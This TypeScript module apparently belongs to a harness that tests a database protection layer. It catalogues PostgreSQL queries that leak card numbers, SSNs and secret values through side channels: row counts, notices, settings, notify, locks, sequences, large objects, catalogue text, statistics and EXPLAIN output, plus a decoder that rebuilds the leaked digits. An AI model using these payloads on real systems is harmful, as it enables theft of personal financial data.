/** Values that leave beside the rows: notices, counts, settings, locks, sequences, statistics. */
import { simple } from '../attack.ts';

const id1 = 'from users2 where id=1';
const counts = simple(
  'row counts',
  [
    ['104 rows', 'select from users2, generate_series(1, left(card,4)::int) where id=1'],
    ['rows of a join', 'select 1 from users2, nums where nums.n < left(card,4)::int and id=1'],
    ['limit', `select n from nums order by n limit (select left(card,4)::int ${id1})`],
    ['offset', `select n from nums order by n offset (select 10000 - left(card,4)::int ${id1})`],
    ['generate_series in the target', `select generate_series(1, left(card,4)::int) ${id1}`],
    ['repeat unnest', `select unnest(string_to_array(repeat('a', left(card,4)::int), null)) ${id1}`],
    ['update tag', 'update nums set t = t where n < (select left(card,4)::int from users2 where id=1)'],
    ['delete tag', 'delete from nums where n < (select left(card,4)::int from users2 where id=1)'],
    [
      'insert tag',
      "insert into notes (body) select 'x' from users2, generate_series(1, left(card,4)::int) where users2.id=1",
    ],
    [
      'merge tag',
      `merge into notes t using (select g from users2, generate_series(1, left(card,4)::int) g where users2.id=1) s on t.id = s.g + 100000 when not matched then insert (body) values ('x')`,
    ],
    ['copy tag', 'copy (select 1 from users2, generate_series(1, left(card,4)::int) where id=1) to stdout'],
    [
      'ctas tag',
      'create temp table counted as select 1 one from users2, generate_series(1, left(card,4)::int) where id=1',
    ],
    [
      'fetch tag',
      'begin',
      'declare c cursor for select 1 from users2, generate_series(1, left(card,4)::int) where id=1',
      'move all from c',
      'rollback',
    ],
  ],
  { gives: 'part' },
);
const countedWhole = simple(
  'row counts',
  [
    [
      'count(*)',
      'select count(*) from users2, generate_series(1, left(card,4)::int) where id=1',
      ...[5, 9, 13].map(
        (at) => `select count(*) from users2, generate_series(1, substr(card,${at},4)::int) where id=1`,
      ),
    ],
    [
      'tags',
      ...[1, 4, 7, 10, 13].map(
        (at) => `select from users2, generate_series(1, ('1' || substr(card,${at},3))::int) where id=1`,
      ),
      `select from users2, generate_series(1, ('1' || substr(card,16))::int) where id=1`,
    ],
    [
      'a column of row numbers',
      'select i, n from nums, generate_series(1,16) i where n = (select substr(card,i,1)::int from users2 where id=1) order by i',
    ],
    [
      'a numbers table',
      'select n.t from users2 u, generate_series(1,16) i join nums n on true where n.n = substr(u.card,i,1)::int and u.id=1 order by i',
    ],
    [
      'numbers in pieces',
      'select a.n, b.n, c.n, d.n from users2 u join nums a on a.n = substr(u.card,1,4)::int join nums b on b.n = substr(u.card,5,4)::int join nums c on c.n = substr(u.card,9,4)::int join nums d on d.n = substr(u.card,13,4)::int where u.id=1',
    ],
    [
      'generate_series joined',
      'select g from generate_series(0,9) g, generate_series(1,16) i, users2 u where g::text = substr(u.card,i,1) and u.id=1 order by i',
    ],
    [
      'in a subquery',
      'select n from nums, generate_series(1,16) i where n in (select substr(card,i,1)::int from users2 where id=1) order by i',
    ],
    [
      'values joined',
      "select v.d from (values ('0'),('1'),('2'),('3'),('4'),('5'),('6'),('7'),('8'),('9')) v(d), generate_series(1,16) i, users2 u where v.d = substr(u.card,i,1) and u.id=1 order by i",
    ],
    [
      'ranks among numbers',
      'select (select count(*) from nums n where n.n < substr(u.card,i,4)::int) from users2 u, unnest(array[1,5,9,13]) i where u.id=1 order by i',
    ],
  ],
  {
    decoder: ({ results }) => [
      results.map(({ tag }) => / (\d{4})$/.exec(tag)?.[1]?.slice(1) ?? / 1(\d)$/.exec(tag)?.[1] ?? '').join(''),
      (results[0]?.rows ?? []).map((row) => String(row.at(-1)).padStart(1, '0')).join(''),
      (results[0]?.rows ?? [])
        .flat()
        .map((cell) => String(cell).padStart(4, '0'))
        .join(''),
      results.map(({ rows }) => String(rows[0]?.[0]).padStart(4, '0')).join(''),
    ],
  },
);

const side = simple('side messages and state', [
  [
    '49 DO notice',
    "do $$ declare r record; begin for r in select card from users2 loop raise notice '%', reverse(r.card); end loop; end $$",
  ],
  [
    '50 DO exception',
    "do $$ begin raise exception using message='m', detail=(select reverse(card) from users2 where id=1), hint='h', table=(select reverse(card) from users2 where id=1), column='c'; end $$",
  ],
  [
    '51 DO sqlstate',
    "do $$ begin raise exception using errcode='K' || left((select card from users2 where id=1), 4); end $$",
    "do $$ begin raise exception '%', (select card from users2 where id=1); end $$",
  ],
  [
    '52 DO setting',
    "do $$ begin perform set_config('application_name', (select reverse(card) from users2 where id=1), false); end $$",
  ],
  ['53 DO execute error', "do $$ begin execute 'select ' || (select 'x' || card from users2 where id=1); end $$"],
  [
    '54 DO warning, info',
    "do $$ begin raise warning '%', (select card from users2 where id=1); raise info '%', (select ssn from users2 where id=1); raise log 'x'; end $$",
  ],
  ['DO assert', 'do $$ begin assert false, (select card from users2 where id=1); end $$'],
  [
    'DO label',
    "do $$ begin execute 'create temp table t as select 1 as \"' || (select card from users2 where id=1) || '\"'; end $$",
    'table t',
  ],
  [
    'DO drop notice',
    "do $$ begin execute 'drop table if exists \"' || (select card from users2 where id=1) || '\"'; end $$",
  ],
  [
    'DO notify',
    'listen x',
    "do $$ begin perform pg_notify('x', (select reverse(card) from users2 where id=1)); end $$",
  ],
  [
    'DO channel',
    "do $$ begin execute 'listen \"' || (select card from users2 where id=1) || '\"'; end $$",
    'select pg_listening_channels()',
  ],
  ['68 set_config application_name', `select length(set_config('application_name', reverse(card), false)) ${id1}`],
  [
    '69 set_config/current_setting',
    `select length(set_config('my.y', reverse(card), false)) ${id1}; select current_setting('my.y')`,
  ],
  ['70 set_config/show', `select length(set_config('my.y', card, false)) ${id1}`, 'show my.y'],
  [
    '71 set_config local',
    'begin',
    `select 1 from (select set_config('my.z', card, true) ${id1} offset 0) s where s.set_config is null`,
    "select current_setting('my.z', true)",
    'rollback',
  ],
  [
    'set_config in where',
    `select 1 from users2 where id=1 and set_config('my.w', card, false) = ''`,
    "select current_setting('my.w')",
  ],
  [
    'pg_settings',
    `select length(set_config('my.v', card, false)) ${id1}`,
    "select setting from pg_settings where name like 'my.%' union all select current_setting('my.v')",
  ],
  ['96 notify', `listen x; select pg_notify('x', reverse(card)) ${id1}`],
  ['97 notify channel', `select 1`, `listen "y"; select count(pg_notify('y', card)) from users2`],
  [
    '98 application_name in pg_stat_activity',
    `select length(set_config('application_name', card, false)) ${id1}`,
    'select application_name from pg_stat_activity where pid = pg_backend_pid()',
  ],
  [
    '99 advisory lock',
    `select pg_advisory_lock(card::bigint) ${id1}; select classid, objid from pg_locks where locktype='advisory' and pid=pg_backend_pid()`,
  ],
  [
    '100 advisory lock of two',
    `select pg_advisory_lock(left(card,8)::int, right(card,8)::int) ${id1}`,
    "select classid::int, objid::int from pg_locks where locktype='advisory' and pid=pg_backend_pid()",
  ],
  ['101 setval', `select setval('counter', card::bigint) ${id1}`, 'select last_value from counter'],
  [
    '102 setval/currval',
    `select length(setval('counter', secret_no)::text) from users where id=1`,
    "select nextval('counter') - 1",
  ],
  [
    '103 setval/pg_sequences',
    `select 1 from users where id=1 and setval('counter', secret_no) < 0`,
    "select last_value from pg_sequences where sequencename='counter'",
  ],
  [
    'setval/lastval',
    `select 1 from (select nextval('counter'), setval('counter', secret_no) from users where id=1 offset 0) s(a,b) where a + b < 0`,
    'select lastval()',
  ],
  ['105 large object', `select lo_from_bytea(424242, card::bytea) ${id1}`, 'select lo_get(424242)'],
  [
    '106 large object table',
    `select lo_from_bytea(424242, card::bytea) ${id1}`,
    'begin',
    'select lo_open(424242, 262144)',
    'select loread(0, 100)',
    'commit',
  ],
  [
    'large object id',
    `select lo_create(left(card,8)::int), lo_create(right(card,8)::int) ${id1}`,
    'select oid from pg_largeobject_metadata order by oid',
  ],
  [
    'savepoint name',
    "do $$ begin execute 'savepoint \"' || (select card from users2 where id=1) || '\"'; end $$",
    "do $$ begin execute 'set role \"' || (select card from users2 where id=1) || '\"'; end $$",
  ],
  [
    'pg_log_backend',
    `select pg_advisory_xact_lock_shared(secret_no) from users where id=1; begin; select pg_advisory_xact_lock_shared(secret_no) from users where id=1; select (classid::bigint << 32) + objid::bigint from pg_locks where locktype='advisory'; rollback`,
  ],
  ['pg_export_snapshot', `select pg_export_snapshot(), reverse(card) from users2`],
  ['pg_logical_emit_message', `select pg_logical_emit_message(false, 'p', card), upper(card) from users2`],
  ['psql-like \\gset', `select card as "application_name", reverse(card) as b from users2`],
]);

const catalogs = simple(
  'statistics and the catalogue',
  [
    [
      '114 pg_stats',
      "select left(most_common_vals::text,9) a, substr(most_common_vals::text,10) b from pg_stats where tablename='mcvt' and attname='card' union all select histogram_bounds::text, '' from pg_stats where tablename='users' and attname='card'",
    ],
    [
      '115 pg_stats anyarray',
      "select unnest(histogram_bounds::text::text[]) from pg_stats where tablename='orders' and attname='card'",
    ],
    ['116 pg_stats of numbers', "select histogram_bounds from pg_stats where attname='secret_no'"],
    ['117 pg_stats_ext', "select * from pg_stats where tablename = 'users2'"],
    ['pg_stats as json', "select to_jsonb(s) from pg_stats s where tablename='users'"],
    [
      '119 pg_prepared_statements',
      "do $$ begin execute format('prepare x as select %L', (select card from users2 where id=1)); end $$",
      'select statement from pg_prepared_statements',
    ],
    [
      '120 pg_cursors',
      'begin',
      "do $$ begin execute format('declare cc cursor with hold for select %L::text', (select card from users2 where id=1)); end $$",
      'select statement from pg_cursors',
      'rollback',
    ],
    [
      '121 pg_stat_activity query',
      "select query from pg_stat_activity where pid = pg_backend_pid() union all select card || '' from users2",
    ],
    [
      'comment',
      "do $$ begin execute format('comment on table vault is %L', (select card from users2 where id=1)); end $$",
      "select obj_description('vault'::regclass)",
    ],
    [
      'comment literal',
      "select col_description(attrelid, attnum), upper(card) from pg_attribute, users2 where attrelid = 'users'::regclass and attnum = 2",
    ],
    [
      'view text',
      "do $$ begin execute format('create temp view tv as select %L::text as x', (select card from users2 where id=1)); end $$",
      "select pg_get_viewdef('tv'::regclass)",
      "select definition from pg_views where viewname = 'tv'",
    ],
    [
      'function text',
      "do $$ begin execute format('create function app_s.ft() returns text language sql as %L', 'select ''' || (select card from users2 where id=1) || '''::text'); end $$",
      "select prosrc from pg_proc where proname='ft'",
      "select pg_get_functiondef('app_s.ft'::regproc)",
    ],
    [
      'column name',
      "do $$ begin execute format('create temp table tn (%I int)', (select card from users2 where id=1)); end $$",
      "select attname from pg_attribute where attrelid = 'tn'::regclass and attnum > 0",
      'select * from tn',
    ],
    [
      'enum label',
      "do $$ begin execute format('create type app_s.en as enum (%L)', (select card from users2 where id=1)); end $$",
      "select enumlabel from pg_enum where enumtypid = 'app_s.en'::regtype",
    ],
    [
      'default',
      "do $$ begin execute format('create temp table td (x text default %L)', (select card from users2 where id=1)); end $$",
      "select column_default from information_schema.columns where table_name='td'",
    ],
  ],
  { undo: ['COMMENT ON TABLE vault IS NULL'] },
);

const explains = simple('EXPLAIN', [
  [
    '112 constant folding',
    'explain verbose select f_card(1)',
    'explain (verbose, costs off) select * from nums where t = (select card from users2 where id=1)',
    'explain analyze select card::int from users2',
  ],
  [
    '113 json',
    "explain (format json) select f_card(1) || ''",
    'explain (analyze, format json) select ssn::int from users2',
  ],
  [
    'inlined immutable',
    "create function app_s.imm() returns text immutable language plpgsql as 'begin return (select card from users2 where id=1); end'",
    'explain verbose select app_s.imm()',
  ],
  [
    'generic plan',
    "create function app_s.imm2(text) returns text immutable language plpgsql as 'begin return (select card from users2 where id=1); end'",
    "prepare q(text) as select * from nums where t = app_s.imm2('x')",
    "explain execute q('a')",
  ],
  [
    'partition pruning',
    "create function app_s.imm3() returns text immutable language plpgsql as 'begin return (select ssn from users2 where id=1); end'",
    'explain (verbose) select * from nums where t = app_s.imm3()',
  ],
  [
    'index condition',
    "create function app_s.imm4() returns int immutable language plpgsql as 'begin return (select left(card,8)::int from users2 where id=1); end'",
    "create function app_s.imm5() returns int immutable language plpgsql as 'begin return (select right(card,8)::int from users2 where id=1); end'",
    'explain (costs off) select * from nums where n = app_s.imm4() or n = app_s.imm5()',
  ],
]);

const copied = simple(
  'statistics and the catalogue',
  [
    [
      'pg_stats of a copy',
      "insert into vault select i + 10, (select card from users2 where id=1), 'x', 'y' from generate_series(1, 50) i",
      'analyze vault',
      "select most_common_vals from pg_stats where tablename = 'vault' and attname = 'card'",
    ],
    [
      'pg_stats of a temporary copy',
      'create temp table tc as select card k from users2, generate_series(1, 50)',
      'analyze tc',
      "select most_common_vals::text from pg_stats where tablename = 'tc'",
    ],
    [
      'pg_stats_ext',
      'create statistics app_s.sx (mcv) on card, ssn from vault',
      "insert into vault select i + 10, (select card from users2 where id=1), 'x', 'y' from generate_series(1, 50) i",
      'analyze vault',
      "select most_common_vals from pg_stats_ext where statistics_name = 'sx'",
    ],
  ],
  {
    undo: ["DELETE FROM pg_statistic WHERE starelid = 'vault'::regclass", 'DROP STATISTICS IF EXISTS app_s.sx'],
  },
);

export const CHANNELS = [...counts, ...countedWhole, ...side, ...catalogs, ...copied, ...explains];
